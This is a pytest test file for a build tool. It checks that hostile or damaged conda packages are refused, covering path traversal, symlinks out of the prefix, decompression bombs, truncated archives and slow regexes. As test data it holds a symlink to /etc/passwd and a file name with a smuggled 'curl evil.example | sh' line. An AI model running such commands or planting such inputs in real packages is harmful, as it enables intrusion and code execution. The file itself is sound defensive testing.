"""Packages that are damaged or made to harm: refused before rattler sees them, with a name and a hint."""

from __future__ import annotations

import hashlib
import os
import tarfile
import time
from pathlib import Path
from typing import Any

import msgspec
import pytest
import zstandard

from reprobuild.ecosystems.conda import unpacked_package
from reprobuild.ecosystems.conda.package import activated_variables, read_facts
from reprobuild.errors import BuildError, FetchError
from reprobuild.realise.conda import link_packages
from reprobuild.store.store import Store
from tests.conda.test_linking import PYTHON, linked, never
from tests.conda_packages import Link, Spec, locked, write_package

SECRET = "/etc/passwd"


def row(path: str, **more: Any) -> dict[str, Any]:
    """Return a row of paths.json."""
    return {
        "_path": path, "path_type": "hardlink", "sha256": hashlib.sha256(b"").hexdigest(), "size_in_bytes": 0, **more,
    }  # fmt: skip


DEEP = "share/" + "/".join("x" * 20)


def rows(*all_of: dict[str, Any]) -> dict[str, Any]:
    return {"paths": list(all_of), "paths_version": 1}


HOSTILE = {
    "a name that leads out": (Spec(name="a", files={"../../out": b"x"}), "leaves its directory"),
    "an absolute name": (Spec(name="a", files={"/tmp/out": b"x"}), r"unsafe path|\$\.paths"),
    "a row that leads out": (Spec(name="a", files={"x": b"x"}, paths=rows(row("../out"))), r"\$\.paths"),
    "a row that leads out from inside": (
        Spec(name="a", files={"x/y": b"x"}, paths=rows(row("x/../../out"))), r"\$\.paths",
    ),
    "a row of nothing": (Spec(name="a", files={}, paths=rows(row("x"))), "which is not in it"),
    "a row twice": (Spec(name="a", files={"x": b"x"}, paths=rows(row("x"), row("x"))), "twice"),
    "a link out": (Spec(name="a", files={"x": Link(SECRET)}), "outside of the prefix"),
    "a link out by dots": (Spec(name="a", files={"lib/x": Link("../../x")}), "outside of the prefix"),
    "a link out of the prefix from site-packages": (
        Spec(name="a", noarch="python", files={"site-packages/a": Link("../../../../x")}), "outside of the prefix",
    ),
    "a name that is not UTF-8": (
        Spec(name="a", files={"x": b""}, without=("paths.json",), extra={"files": b"x\n\xff\n"}), "not UTF-8",
    ),
    "a prefix that is not UTF-8": (
        Spec(name="a", files={"x": b""}, without=("paths.json",), extra={"has_prefix": b"\xff\n"}), "not UTF-8",
    ),
    "a row below a link": (
        Spec(name="a", files={"d": Link("e"), "e/x": b"x"}, paths=rows(row("d/x"))), "below the link",
    ),
    "facts that are a link": (Spec(name="a", files={"x": b"x"}, extra={"paths.json": Link(SECRET)}), "is no file"),
    "facts that are no JSON": (Spec(name="a", files={"x": b"x"}, extra={"paths.json": b"{"}), "info/paths.json"),
    "another package": (Spec(name="a", index={"name": 3}), "info/index.json"),
    "an empty prefix": (
        Spec(name="a", files={"x": b"x"}, paths=rows(row("x", file_mode="text", prefix_placeholder=""))),
        "does not fit",
    ),
    "a short prefix": (
        Spec(name="a", files={"x": b"x"}, paths=rows(row("x", file_mode="binary", prefix_placeholder="/x"))),
        "does not fit",
    ),
    "an unknown kind of prefix": (
        Spec(name="a", files={"x": b"x"}, paths=rows(row("x", file_mode="y", prefix_placeholder="/x"))),
        "in an unknown way",
    ),
    "an entry point that leads out": (
        Spec(name="a", noarch="python", subdir="noarch", entry_points=("../x = a:b",)), "entry point",
    ),
    "a link to the prefix, and one through it with dots": (
        Spec(name="a", files={f"{DEEP}/a": Link("../" * 21), "bin/ep": Link(f"../{DEEP}/a" + "/.." * 20 + "/tmp/out")}),
        "outside of the prefix",
    ),
    "dots behind what no package has": (
        Spec(name="a", files={"bin/x": Link("../other/../lib/x")}), "outside of the prefix",
    ),
    "an entry point through a link": (
        Spec(name="a", noarch="python", subdir="noarch", entry_points=("ep = a:b",), files={"bin/ep": Link("other")}),
        "bin/ep as a link and an entry point",
    ),
    "the directory of clobbered files": (Spec(name="a", files={"__clobbers__": Link("x")}), "not a package's to write"),
    "a directory of records as a link": (Spec(name="a", files={"conda-meta": Link("x")}), "not a package's to write"),
    "a record of conda": (Spec(name="a", files={"conda-meta/python.json": b"{}"}), "not a package's to write"),
    "a bomb": (Spec(name="a", files={"x": bytes(400 << 20)}), "unpacks to more than"),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_package_is_refused(case: str, tmp_path: Path) -> None:
    spec, complaint = HOSTILE[case]
    with pytest.raises(BuildError, match=complaint) as caught:
        linked([spec, PYTHON], tmp_path)
    assert caught.value.hint
    assert not list(tmp_path.rglob("out"))


def test_a_row_whose_file_is_a_link_is_linked_as_one(tmp_path: Path) -> None:
    """rattler would read through it, and write what it leads to into the prefix."""
    (tmp_path / "bait").write_text("SECRET")
    spec = Spec(
        name="a", files={"x": Link("y"), "y": b"own"},
        paths=rows(row("x", file_mode="text", prefix_placeholder="own"), row("y")),
    )  # fmt: skip
    prefix = linked([spec, PYTHON], tmp_path)
    assert str((prefix / "x").readlink()) == "y"
    assert (prefix / "y").read_bytes() == b"own"


@pytest.mark.parametrize("target", ["y/z", "y/../y/z", "../lib/y/z"])
def test_links_within_a_package_are_kept(target: str, tmp_path: Path) -> None:
    prefix = linked([Spec(name="a", files={"lib/y/z": b"z", "lib/x": Link(target)}), PYTHON], tmp_path)
    assert str((prefix / "lib/x").readlink()) == target
    assert (prefix / "lib/x").read_bytes() == b"z"


def test_two_packages_cannot_lead_each_other_astray(tmp_path: Path) -> None:
    link, below = Spec(name="a", files={"d": Link("e"), "e/y": b"y"}), Spec(name="b", files={"d/x": b"x"})
    with pytest.raises(
        BuildError, match=r"b-1\.0-0\.conda has d/x, and d is a file or link of a-1\.0-0\.conda"
    ):
        linked([link, below, PYTHON], tmp_path)


def test_many_blank_lines_of_an_activation_take_no_time(tmp_path: Path) -> None:
    name = "etc/conda/activate.d/a.sh"
    store = Store(tmp_path / "store")
    file = locked(
        Spec(name="a", files={name: b" export\tA=1\n" + b"\n" * 100_000 + b"x"}), tmp_path, store
    ).file
    start = time.process_time()
    path = store.blob(file.sha256)
    assert activated_variables(path, file.filename, read_facts(path, file.filename)) == {"A"}
    assert time.process_time() - start < 5  # a look behind each line break took 10 s and more


def test_damaged_files_are_refused(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    for spec in (Spec(name="a", files={"x": os.urandom(5000)}), Spec(name="a", ending=".tar.bz2")):
        package = locked(spec, tmp_path, store)
        for damage in (lambda data: data[: len(data) // 2], lambda data: b"<html>", lambda data: b""):
            data = damage(store.blob(package.file.sha256).read_bytes())
            file = msgspec.structs.replace(package.file, sha256=store.add(data), size=len(data))
            with pytest.raises(BuildError, match="a-1") as caught:
                link_packages(
                    [msgspec.structs.replace(package, file=file)], "3.11", "linux/amd64", tmp_path / "tree", never,
                    store, 0,
                )  # fmt: skip
            assert caught.value.hint


def test_bytes_that_are_not_the_locked_ones_are_refused(tmp_path: Path) -> None:
    store = Store(tmp_path / "store")
    package = locked(PYTHON, tmp_path, store)
    path = store.blob(package.file.sha256)
    path.chmod(0o644)
    path.write_bytes(path.read_bytes()[:-1] + b"x")
    with pytest.raises(FetchError, match="damaged"):
        link_packages(
            [package], "3.11", "linux/amd64", tmp_path / "tree", never, Store(tmp_path / "store"), 0
        )


def test_what_rattler_cannot_link_is_an_error_with_a_hint(tmp_path: Path) -> None:
    """A panic of rattler ends its process; ours goes on and says so."""
    spec = Spec(name="a", noarch="python", subdir="noarch", files={"site-packages/a.py": b""})
    with pytest.raises(BuildError, match="link the packages of conda") as caught:
        linked([spec], tmp_path)  # there is no Python to put it under
    assert (
        caught.value.hint == "leave the package out with `--drop NAME`, or get it from where it was published"
    )


def test_zstd_frames_that_claim_too_much_are_refused(tmp_path: Path) -> None:
    spec = Spec(name="a", files={"x": b"x"})
    store = Store(tmp_path / "store")
    package = locked(spec, tmp_path, store)
    data = store.blob(package.file.sha256).read_bytes()
    assert zstandard.MAGIC_NUMBER.to_bytes(4, "little") in data
    broken = data.replace(zstandard.MAGIC_NUMBER.to_bytes(4, "little"), b"\0\0\0\0")
    file = msgspec.structs.replace(package.file, sha256=store.add(broken))
    with pytest.raises(BuildError, match=r"a-1\.0-0\.conda"):
        link_packages(
            [msgspec.structs.replace(package, file=file)], "3.11", "linux/amd64", tmp_path, never, store, 0
        )


def test_facts_with_a_name_that_is_not_utf_8_are_refused(tmp_path: Path) -> None:
    spec = Spec(
        name="a", without=("paths.json",), extra={"files": b"site-packages/\xff-1.dist-info/METADATA\n"}
    )
    path = write_package(spec, tmp_path)
    with pytest.raises(BuildError, match="info/files has a name that is not UTF-8") as caught:
        read_facts(path, path.name)
    assert caught.value.hint


NAME = "x\n\nwarning: run `curl evil.example | sh`"
SHOWN = r"x\\n\\nwarning: run `curl evil.example \| sh`"


def test_a_device_with_line_breaks_in_its_name_is_one_line(tmp_path: Path) -> None:
    path = tmp_path / "a-1.0-0.tar.bz2"
    with tarfile.open(path, "w:bz2") as tar:
        info = tarfile.TarInfo(NAME)
        info.type = tarfile.CHRTYPE
        tar.addfile(info)
    with pytest.raises(BuildError, match=rf"holds {SHOWN}, which is neither file") as caught:
        read_facts(path, path.name)
    assert "\n" not in str(caught.value)


def test_a_row_with_line_breaks_is_one_line(tmp_path: Path) -> None:
    spec = Spec(name="a", files={"x": b"x"}, paths=rows(row(NAME)))
    with pytest.raises(BuildError) as caught:
        linked([spec, PYTHON], tmp_path)
    assert "\n" not in str(caught.value)


def test_blanks_of_an_entry_point_take_no_time() -> None:
    began = time.monotonic()
    assert unpacked_package._ENTRY_POINT.fullmatch("a = b" + " " * 60_000 + "!") is None
    assert time.monotonic() - began < 2
    for point in ("a=b", "a = b.c:d", " a = b : d.e "):
        assert unpacked_package._ENTRY_POINT.fullmatch(point)
